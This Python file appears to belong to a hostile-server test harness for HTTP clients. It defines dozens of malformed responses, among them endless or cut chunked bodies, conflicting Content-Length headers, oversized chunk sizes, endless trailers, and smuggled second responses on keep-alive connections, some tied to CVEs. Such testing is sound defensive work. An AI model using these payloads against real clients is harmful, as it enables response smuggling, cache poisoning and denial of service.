"""Acts of framing: where a body ends, and what comes after it."""

from __future__ import annotations

from hostile.act import CHUNK, PAYLOAD, POISON, Exchange, act, chunked, head, response

HALF = len(PAYLOAD) // 2
# Looks like the answer to the next request of the same connection.
SMUGGLED = response(POISON, keep_alive=True)


@act()
async def never_ends(exchange: Exchange) -> None:
    """A chunked body without end, as fast as the client reads."""
    await exchange.send(head("Transfer-Encoding: chunked"))
    while True:
        await exchange.send(chunked(CHUNK, end=b""))


@act()
async def never_ends_unframed(exchange: Exchange) -> None:
    """A body without length or chunks and without end."""
    await exchange.send(head())
    while True:
        await exchange.send(CHUNK)


@act()
async def lies_long(exchange: Exchange) -> None:
    """Content-Length is twice the body."""
    await exchange.send(head(f"Content-Length: {len(PAYLOAD) * 2}") + PAYLOAD)


@act()
async def lies_short(exchange: Exchange) -> None:
    """Content-Length is half the body."""
    await exchange.send(head(f"Content-Length: {HALF}") + PAYLOAD)


@act()
async def cut_chunked(exchange: Exchange) -> None:
    """The connection closes in the middle of a chunk."""
    await exchange.send(head("Transfer-Encoding: chunked") + b"%x\r\n%b" % (len(PAYLOAD), PAYLOAD[:HALF]))


@act()
async def cut_between_chunks(exchange: Exchange) -> None:
    """The connection closes after a whole chunk, without the last one."""
    await exchange.send(head("Transfer-Encoding: chunked") + chunked(PAYLOAD, end=b""))


@act()
async def close_delimited(exchange: Exchange) -> None:
    """HTTP/1.0, only the close says where the body ends."""
    await exchange.send(head(version="1.0") + PAYLOAD)


@act()
async def reset_in_body(exchange: Exchange) -> None:
    """The connection is reset in the middle of the body."""
    await exchange.send(head(f"Content-Length: {len(PAYLOAD)}") + PAYLOAD[:HALF])
    await exchange.pause(0.1)  # what was sent must be read first
    await exchange.reset()


@act()
async def reset_unframed(exchange: Exchange) -> None:
    """A body that only the close would end is reset instead."""
    await exchange.send(head() + PAYLOAD[:HALF])
    await exchange.pause(0.1)
    await exchange.reset()


@act()
async def half_closes(exchange: Exchange) -> None:
    """The stream ends in the middle of the body while the connection stays open."""
    await exchange.send(head(f"Content-Length: {len(PAYLOAD)}") + PAYLOAD[:HALF])
    await exchange.half_close()


@act()
async def two_lengths(exchange: Exchange) -> None:
    """Two Content-Length headers that differ."""
    await exchange.send(head(f"Content-Length: {HALF}", f"Content-Length: {len(PAYLOAD)}") + PAYLOAD)


@act()
async def list_of_lengths(exchange: Exchange) -> None:
    """One Content-Length header with two values."""
    await exchange.send(head(f"Content-Length: {HALF}, {len(PAYLOAD)}") + PAYLOAD)


@act()
async def two_equal_lengths(exchange: Exchange) -> None:
    """Two Content-Length headers that say the same, one of them twice."""
    size = len(PAYLOAD)
    await exchange.send(head(f"Content-Length: {size}", f"Content-Length: {size}, {size}") + PAYLOAD)


@act()
async def negative_length(exchange: Exchange) -> None:
    """Content-Length is -1."""
    await exchange.send(head("Content-Length: -1") + PAYLOAD)


@act()
async def signed_length(exchange: Exchange) -> None:
    """Content-Length has a plus sign."""
    await exchange.send(head(f"Content-Length: +{HALF}") + PAYLOAD)


@act()
async def garbage_length(exchange: Exchange) -> None:
    """Content-Length is not a number."""
    await exchange.send(head("Content-Length: 1e5") + PAYLOAD)


@act()
async def vast_length(exchange: Exchange) -> None:
    """Content-Length does not fit 64 bits."""
    await exchange.send(head(f"Content-Length: {10**30}") + PAYLOAD)


@act()
async def large_length(exchange: Exchange) -> None:
    """Content-Length promises a petabyte; 100 kB come."""
    await exchange.send(head(f"Content-Length: {10**15}") + PAYLOAD)


@act()
async def length_and_chunked(exchange: Exchange) -> None:
    """Both Content-Length and chunked, which disagree (CVE-2023-47641)."""
    await exchange.send(head("Content-Length: 5", "Transfer-Encoding: chunked") + chunked(PAYLOAD))


@act()
async def almost_chunked(exchange: Exchange) -> None:
    """A transfer coding that only begins like chunked."""
    await exchange.send(head("Transfer-Encoding: chunked123", f"Content-Length: {len(PAYLOAD)}") + PAYLOAD)


@act()
async def gzip_transfer_coding(exchange: Exchange) -> None:
    """A transfer coding of gzip, which nobody asked for."""
    await exchange.send(head("Transfer-Encoding: gzip, chunked") + chunked(PAYLOAD))


@act()
async def chunk_size_garbage(exchange: Exchange) -> None:
    """A chunk size that is not hexadecimal, then silence."""
    await exchange.send(head("Transfer-Encoding: chunked") + chunked(PAYLOAD, end=b"zz\r\n"))
    await exchange.hold()


@act()
async def chunk_size_negative(exchange: Exchange) -> None:
    """A negative chunk size."""
    await exchange.send(head("Transfer-Encoding: chunked") + chunked(PAYLOAD, end=b"-5\r\nabcde\r\n0\r\n\r\n"))


@act()
async def chunk_size_prefixed(exchange: Exchange) -> None:
    """A chunk size written 0x10."""
    await exchange.send(head("Transfer-Encoding: chunked") + b"0x10\r\n" + PAYLOAD[:16] + b"\r\n0\r\n\r\n")


@act()
async def chunk_size_vast(exchange: Exchange) -> None:
    """A chunk size that does not fit 64 bits."""
    await exchange.send(head("Transfer-Encoding: chunked") + b"f" * 40 + b"\r\n" + PAYLOAD)


@act()
async def chunk_size_endless(exchange: Exchange) -> None:
    """A chunk size of endlessly many zeros."""
    await exchange.send(head("Transfer-Encoding: chunked"))
    while True:
        await exchange.send(b"0" * 65_536)


@act()
async def chunk_extension_endless(exchange: Exchange) -> None:
    """A chunk extension without end."""
    await exchange.send(head("Transfer-Encoding: chunked") + b"5;a=")
    while True:
        await exchange.send(b"a" * 65_536)


@act()
async def chunk_extensions(exchange: Exchange) -> None:
    """Each of many small chunks has a long extension."""
    extension = b";a=" + b"a" * 4_000
    pieces = [PAYLOAD[begin : begin + 100] for begin in range(0, len(PAYLOAD), 100)]
    await exchange.send(head("Transfer-Encoding: chunked"))
    await exchange.send(*(b"64%b\r\n%b\r\n" % (extension, piece) for piece in pieces), b"0\r\n\r\n")


@act()
async def chunks_of_one_byte(exchange: Exchange) -> None:
    """100,000 chunks of one byte each (CVE-2025-69229)."""
    body = chunked(*(PAYLOAD[place : place + 1] for place in range(len(PAYLOAD))))
    await exchange.send(head("Transfer-Encoding: chunked") + body)


@act()
async def trailers_endless(exchange: Exchange) -> None:
    """Trailers without end after the last chunk (CVE-2026-22815)."""
    await exchange.send(head("Transfer-Encoding: chunked") + chunked(PAYLOAD, end=b"0\r\n"))
    while True:
        await exchange.send(b"X-Flood: " + b"a" * 1_000 + b"\r\n")


@act()
async def trailers_lie(exchange: Exchange) -> None:
    """Trailers that claim another length, coding and place."""
    lies = b"Content-Length: 5\r\nContent-Encoding: gzip\r\nLocation: /poison\r\n\r\n"
    await exchange.send(head("Transfer-Encoding: chunked") + chunked(PAYLOAD, end=b"0\r\n" + lies))


@act()
async def chunks_bare_lf(exchange: Exchange) -> None:
    """Chunk lines end with a bare LF, which parsers read differently."""
    await exchange.send(head("Transfer-Encoding: chunked") + b"%x\n%b\n0\n\n" % (len(PAYLOAD), PAYLOAD))


@act()
async def chunk_longer_than_said(exchange: Exchange) -> None:
    """A chunk has more bytes than its size says."""
    await exchange.send(head("Transfer-Encoding: chunked") + b"%x\r\n%b\r\n0\r\n\r\n" % (HALF, PAYLOAD))


@act()
async def surplus_answer(exchange: Exchange) -> None:
    """After the body comes what looks like the answer to the next request."""
    exchange.keeps_alive = True
    await exchange.send(response(PAYLOAD, keep_alive=True) + SMUGGLED)


@act()
async def surplus_answer_chunked(exchange: Exchange) -> None:
    """After the last chunk comes what looks like the answer to the next request."""
    exchange.keeps_alive = True
    await exchange.send(head("Transfer-Encoding: chunked", keep_alive=True) + chunked(PAYLOAD) + SMUGGLED)


@act()
async def surplus_answer_late(exchange: Exchange) -> None:
    """What looks like the next answer comes while the connection waits for its next request."""
    exchange.keeps_alive = True
    await exchange.send(response(PAYLOAD, keep_alive=True))
    await exchange.pause(0.05)
    await exchange.send(SMUGGLED)


@act()
async def surplus_after_empty(exchange: Exchange) -> None:
    """A 204, which has no body, with a body that looks like the next answer."""
    exchange.keeps_alive = True
    await exchange.send(head(f"Content-Length: {len(SMUGGLED)}", status="204 No Content", keep_alive=True) + SMUGGLED)


@act()
async def surplus_after_not_modified(exchange: Exchange) -> None:
    """A 304 that nobody asked for, with a body that looks like the next answer."""
    exchange.keeps_alive = True
    length = f"Content-Length: {len(SMUGGLED)}"
    await exchange.send(head(length, status="304 Not Modified", keep_alive=True) + SMUGGLED)


@act()
async def surplus_after_redirect(exchange: Exchange) -> None:
    """A redirect without a body, followed by what looks like the next answer."""
    exchange.keeps_alive = True
    await exchange.send(response(b"", "Location: /honest.bin", status="302 Found", keep_alive=True) + SMUGGLED)


@act(at_connection=True)
async def answers_unasked(exchange: Exchange) -> None:
    """An answer is sent before any request, another one after it."""
    await exchange.send(response(PAYLOAD, keep_alive=True))
    await exchange.reader.readuntil(b"\r\n\r\n")
    await exchange.send(SMUGGLED)
    await exchange.hold()
